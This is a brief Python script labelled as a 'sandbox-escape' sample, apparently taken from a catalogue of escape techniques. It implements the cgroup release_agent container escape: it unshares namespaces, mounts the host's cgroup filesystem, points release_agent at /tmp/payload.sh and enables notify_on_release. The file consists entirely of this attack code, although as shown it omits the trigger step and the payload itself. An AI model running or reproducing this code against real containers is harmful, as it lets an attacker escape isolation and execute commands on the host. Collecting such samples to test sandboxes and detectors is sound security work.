# family: sandbox-escape
# os.unshare and a mount of the host's cgroup file system (release_agent)
import os
import subprocess

os.unshare(os.CLONE_NEWNS | os.CLONE_NEWUSER)
os.makedirs("/tmp/cg", exist_ok=True)
subprocess.run(["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/cg"])
with open("/tmp/cg/release_agent", "w") as f:
    f.write("/tmp/payload.sh")
with open("/tmp/cg/notify_on_release", "w") as f:
    f.write("1")
